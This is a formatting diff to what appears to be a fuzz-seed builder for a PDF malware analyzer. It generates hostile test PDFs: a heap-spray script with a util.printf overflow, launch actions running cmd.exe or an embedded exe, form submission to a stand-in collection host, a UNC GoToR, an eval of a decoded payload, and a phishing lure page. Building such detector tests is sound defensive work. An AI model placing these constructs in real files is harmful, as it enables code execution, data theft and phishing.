@@ -5,10 +5,21 @@ import { createHash } from "node:crypto";
 import { deflateSync } from "node:zlib";
 import { rc4 } from "../../lib/pdf/crypto/rc4";
 import { PdfBuilder, appendUpdate, bytes, crOnly, hexString, wrapInXdp } from "../../lib/pdf/testing/pdf-builder";
-import { makeZip, maliciousPdf, pdfWithAttachments, PE_FILE } from "../../lib/analyzer/embedded/testing/embedded-fixtures";
+import {
+  makeZip,
+  maliciousPdf,
+  pdfWithAttachments,
+  PE_FILE,
+} from "../../lib/analyzer/embedded/testing/embedded-fixtures";
 import { EXPLOIT_RULE_FIXTURES } from "../../lib/analyzer/embedded/testing/exploit-fixtures";
 import { TECHNIQUE_FIXTURES } from "../../lib/analyzer/techniques/testing/all-fixtures";
-import { annotationKitPdf, benignFormPdf, loopAndFormPdf, xfaExploitPdf, xfaHeldPayloadPdf } from "../../lib/analyzer/javascript/testing/script-fixtures";
+import {
+  annotationKitPdf,
+  benignFormPdf,
+  loopAndFormPdf,
+  xfaExploitPdf,
+  xfaHeldPayloadPdf,
+} from "../../lib/analyzer/javascript/testing/script-fixtures";
 import { buildLurePdf } from "../../lib/analyzer/pages/testing/lure-pdf";
 
 export interface Seed {
@@ -44,12 +55,21 @@ function objectStreams(): Uint8Array {
 function filterChain(): Uint8Array {
   const b = new PdfBuilder();
   const rows = Uint8Array.from({ length: 4 * 5 }, (_, i) => (i % 5 === 0 ? 2 : i & 0xff));
-  const png = b.addStream("/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>", new Uint8Array(deflateSync(rows)));
-  const hexFlate = b.addStream("/Filter [/AHx /Fl]", `${Buffer.from(deflateSync("BT (chained) Tj ET")).toString("hex")}>`);
-  const a85 = b.addStream("/Filter /ASCII85Decode", "87cURD]i,\"Ebo80~>");
+  const png = b.addStream(
+    "/Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>",
+    new Uint8Array(deflateSync(rows)),
+  );
+  const hexFlate = b.addStream(
+    "/Filter [/AHx /Fl]",
+    `${Buffer.from(deflateSync("BT (chained) Tj ET")).toString("hex")}>`,
+  );
+  const a85 = b.addStream("/Filter /ASCII85Decode", '87cURD]i,"Ebo80~>');
   const rle = b.addStream("/Filter /RunLengthDecode", Uint8Array.of(2, 0x41, 0x42, 0x43, 0xfd, 0x44, 0x80));
   const lzw = b.addStream("/Filter /LZWDecode", Uint8Array.of(0x80, 0x0b, 0x60, 0x50, 0x22, 0x0c, 0x0c, 0x85, 0x01));
-  const dct = b.addStream("/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode", Uint8Array.of(0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 0xff, 0xd9));
+  const dct = b.addStream(
+    "/Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /DCTDecode",
+    Uint8Array.of(0xff, 0xd8, 0xff, 0xe0, 0, 16, 0x4a, 0x46, 0x49, 0x46, 0, 1, 0xff, 0xd9),
+  );
   const fixtures = [png, hexFlate, a85, rle, lzw, dct].map((n) => `${n} 0 R`).join(" ");
   b.addCatalog(`/Fixtures [${fixtures}]`, 1, `/Resources << /XObject << /Im0 ${dct} 0 R >> >>`);
   return b.build();
@@ -59,20 +79,35 @@ function filterChain(): Uint8Array {
 function actions(): Uint8Array {
   const b = new PdfBuilder();
   const next = b.add(`<< /S /JavaScript /JS (this.exportDataObject\\({cName: "a.exe", nLaunch: 2}\\)) >>`);
-  const js = b.addFlateStream("", "var s = unescape('%u0c0c%u0c0c'); while (s.length < 0x1000) s += s; util.printf('%45000f', 1.2);");
+  const js = b.addFlateStream(
+    "",
+    "var s = unescape('%u0c0c%u0c0c'); while (s.length < 0x1000) s += s; util.printf('%45000f', 1.2);",
+  );
   const names = b.add(`<< /Names [(init) << /S /JavaScript /JS ${js} 0 R /Next ${next} 0 R >>] >>`);
-  const link = b.add("<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (http://198.51.100.7/invoice.php?id=1) >> >>");
-  const launch = b.add("<< /Type /Annot /Subtype /Link /Rect [0 100 100 200] /A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>");
-  const submit = b.add("<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [0 200 100 300] /A << /S /SubmitForm /F (https://collect.example.com/x) >> >>");
+  const link = b.add(
+    "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /URI /URI (http://198.51.100.7/invoice.php?id=1) >> >>",
+  );
+  const launch = b.add(
+    "<< /Type /Annot /Subtype /Link /Rect [0 100 100 200] /A << /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >> >>",
+  );
+  const submit = b.add(
+    "<< /Type /Annot /Subtype /Widget /FT /Btn /T (go) /Rect [0 200 100 300] /A << /S /SubmitForm /F (https://collect.example.com/x) >> >>",
+  );
   const gotoR = b.add("<< /S /GoToR /F (\\\\\\\\203.0.113.9\\\\share\\\\doc.pdf) /D [0 /Fit] >>");
-  b.addCatalog(`/Names << /JavaScript ${names} 0 R >> /OpenAction ${gotoR} 0 R /AcroForm << /Fields [${submit} 0 R] /NeedAppearances true >>`, 2, `/Annots [${link} 0 R ${launch} 0 R ${submit} 0 R] /AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>`);
+  b.addCatalog(
+    `/Names << /JavaScript ${names} 0 R >> /OpenAction ${gotoR} 0 R /AcroForm << /Fields [${submit} 0 R] /NeedAppearances true >>`,
+    2,
+    `/Annots [${link} 0 R ${launch} 0 R ${submit} 0 R] /AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>`,
+  );
   return b.build();
 }
 
 /** Two incremental updates: a later revision adds a script to the catalog (a shadow-attack shape). */
 function incremental(): Uint8Array {
   const base = textPage("table");
-  const once = appendUpdate(base, [{ num: 20, body: `<< /S /JavaScript /JS ${hexString("app.launchURL('http://example.net/', true)")} >>` }]);
+  const once = appendUpdate(base, [
+    { num: 20, body: `<< /S /JavaScript /JS ${hexString("app.launchURL('http://example.net/', true)")} >>` },
+  ]);
   return appendUpdate(once, [{ num: 3, body: "<< /Type /Catalog /Pages 4 0 R /OpenAction 20 0 R >>" }]);
 }
 
@@ -89,7 +124,8 @@ function rc4Encrypted(): Uint8Array {
   const owner = rc4(md5(PASSWORD_PAD).subarray(0, 5), PASSWORD_PAD);
   const permissions = Uint8Array.of(0xfc, 0xff, 0xff, 0xff);
   const fileKey = md5(PASSWORD_PAD, owner, permissions, id).subarray(0, 5);
-  const objectKey = (num: number) => md5(fileKey, Uint8Array.of(num & 255, (num >> 8) & 255, (num >> 16) & 255, 0, 0)).subarray(0, 10);
+  const objectKey = (num: number) =>
+    md5(fileKey, Uint8Array.of(num & 255, (num >> 8) & 255, (num >> 16) & 255, 0, 0)).subarray(0, 10);
   const seal = (num: number, s: string) => rc4(objectKey(num), bytes(s));
   const hex = (b: Uint8Array) => `<${Buffer.from(b).toString("hex")}>`;
   const b = new PdfBuilder();
@@ -106,7 +142,10 @@ function rc4Encrypted(): Uint8Array {
 /** Outlines with /Next chains, a page tree two levels deep, metadata: the linked structures the walks guard. */
 function linkedStructures(): Uint8Array {
   const b = new PdfBuilder();
-  const xmp = b.addStream("/Type /Metadata /Subtype /XML", `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:pdf="http://ns.adobe.com/pdf/1.3/" pdf:Producer="fuzz"/></rdf:RDF></x:xmpmeta>`);
+  const xmp = b.addStream(
+    "/Type /Metadata /Subtype /XML",
+    `<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:pdf="http://ns.adobe.com/pdf/1.3/" pdf:Producer="fuzz"/></rdf:RDF></x:xmpmeta>`,
+  );
   const o2 = b.add("<< /Title (Second) /Parent 9 0 R /Prev 7 0 R >>", { num: 8 });
   b.add(`<< /Title (First) /Parent 9 0 R /Next ${o2} 0 R >>`, { num: 7 });
   b.add("<< /Type /Outlines /First 7 0 R /Last 8 0 R /Count 2 >>", { num: 9 });
@@ -118,7 +157,11 @@ function linkedStructures(): Uint8Array {
 /** A content stream with an inline image and operators of each kind the layout reader counts. */
 function layout(): Uint8Array {
   const inline = "BI /W 4 /H 4 /BPC 8 /CS /G /F /AHx ID 00ff00ff00ff00ff00ff00ff00ff00ff> EI";
-  return textPage("stream", (b) => `/Extra ${b.addFlateStream("", `q 1 0 0 1 0 0 cm ${inline} Q BT /F1 9 Tf (x) ' (y) " [(a) -20 (b)] TJ ET 0 0 m 10 10 l S`)} 0 R`);
+  return textPage(
+    "stream",
+    (b) =>
+      `/Extra ${b.addFlateStream("", `q 1 0 0 1 0 0 cm ${inline} Q BT /F1 9 Tf (x) ' (y) " [(a) -20 (b)] TJ ET 0 0 m 10 10 l S`)} 0 R`,
+  );
 }
 
 // Large inputs (issue 19, item 6): the crash class of regular expressions over unbounded text came
@@ -128,14 +171,17 @@ const LARGE_PART_BYTES = 768 * 1024;
 
 /** Deterministic base64 text (76-column lines, as XFA writers wrap it) of about `n` characters. */
 function base64Text(n: number, wrap = true): string {
-  const raw = Buffer.from(Uint8Array.from({ length: Math.ceil((n * 3) / 4) }, (_, i) => (i * 2654435761) >>> 24)).toString("base64");
+  const raw = Buffer.from(
+    Uint8Array.from({ length: Math.ceil((n * 3) / 4) }, (_, i) => (i * 2654435761) >>> 24),
+  ).toString("base64");
   return wrap ? raw.replace(/.{76}/g, "$&\n") : raw;
 }
 
 /** An XFA form whose template holds a large base64 image beside a script and a submit button. */
 function xfaLargeImage(): Uint8Array {
   const b = new PdfBuilder();
-  const xml = `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1"><field name="logo"><value><image contentType="image/png">${base64Text(LARGE_PART_BYTES)}</image></value></field>` +
+  const xml =
+    `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform name="form1"><field name="logo"><value><image contentType="image/png">${base64Text(LARGE_PART_BYTES)}</image></value></field>` +
     `<event activity="initialize"><script contentType="application/x-javascript">var v = xfa.resolveNode("form1.logo").rawValue; app.alert(v.length);</script></event>` +
     `<field name="send"><event activity="click"><submit target="https://collect.example.com/f" format="xdp"/></event></field></subform></template></xdp:xdp>`;
   // unfiltered: mutations land in the XML itself
@@ -147,7 +193,10 @@ function xfaLargeImage(): Uint8Array {
 /** An opening script that carries its payload as one long base64 literal, decoded at run time. */
 function scriptLargeBase64(): Uint8Array {
   const b = new PdfBuilder();
-  const js = b.addStream("", `var p = "${base64Text(LARGE_PART_BYTES, false)}"; var d = util.stringFromStream(util.streamFromString(p)); eval(d.slice(0, 8));`);
+  const js = b.addStream(
+    "",
+    `var p = "${base64Text(LARGE_PART_BYTES, false)}"; var d = util.stringFromStream(util.streamFromString(p)); eval(d.slice(0, 8));`,
+  );
   b.addCatalog(`/OpenAction << /S /JavaScript /JS ${js} 0 R >>`);
   return b.build();
 }
@@ -187,7 +236,14 @@ export function buildSeeds(): Seed[] {
     { name: "rc4-encrypted", bytes: rc4Encrypted() },
     { name: "linked-structures-cr", bytes: linkedStructures() },
     { name: "layout", bytes: layout() },
-    { name: "attachments", bytes: pdfWithAttachments([{ name: "invoice.exe", data: PE_FILE }, { name: "docs.zip", data: makeZip([{ name: "a.js", data: bytes("WScript.Shell") }]), flate: true }, { name: "inner.pdf", data: maliciousPdf(), via: "annotation" }]) },
+    {
+      name: "attachments",
+      bytes: pdfWithAttachments([
+        { name: "invoice.exe", data: PE_FILE },
+        { name: "docs.zip", data: makeZip([{ name: "a.js", data: bytes("WScript.Shell") }]), flate: true },
+        { name: "inner.pdf", data: maliciousPdf(), via: "annotation" },
+      ]),
+    },
     { name: "script-annotation-kit", bytes: annotationKitPdf() },
     { name: "script-loop-form", bytes: loopAndFormPdf() },
     { name: "xfa-exploit", bytes: xfaExploitPdf() },
@@ -198,7 +254,17 @@ export function buildSeeds(): Seed[] {
     { name: "script-large-base64", bytes: scriptLargeBase64() },
     { name: "long-strings", bytes: longStrings() },
     { name: "deep-nesting", bytes: deepNesting() },
-    { name: "lure-links", bytes: buildLurePdf({ pages: [{ lines: ["Your mailbox is full", "Verify your account"], links: [{ url: "https://login.example.com/verify", rect: [72, 600, 300, 620] }] }] }) },
+    {
+      name: "lure-links",
+      bytes: buildLurePdf({
+        pages: [
+          {
+            lines: ["Your mailbox is full", "Verify your account"],
+            links: [{ url: "https://login.example.com/verify", rect: [72, 600, 300, 620] }],
+          },
+        ],
+      }),
+    },
   ];
   for (const [id, f] of Object.entries(EXPLOIT_RULE_FIXTURES)) seeds.push({ name: id, bytes: f.build() });
   // every carrier of every technique: the constructs the analysis reads (XFA declarations, script
@@ -207,7 +273,8 @@ export function buildSeeds(): Seed[] {
   // decodes 25 MB from a 3 KB file is "slow for its size" without any reader being super-linear
   for (const [technique, carriers] of Object.entries(TECHNIQUE_FIXTURES)) {
     if (BY_DESIGN_SLOW_TECHNIQUES.has(technique)) continue;
-    for (const [carrier, build] of Object.entries(carriers)) seeds.push({ name: `${TECHNIQUE_SEED_PREFIX}${technique}/${carrier}`, bytes: build() });
+    for (const [carrier, build] of Object.entries(carriers))
+      seeds.push({ name: `${TECHNIQUE_SEED_PREFIX}${technique}/${carrier}`, bytes: build() });
   }
   return seeds;
 }
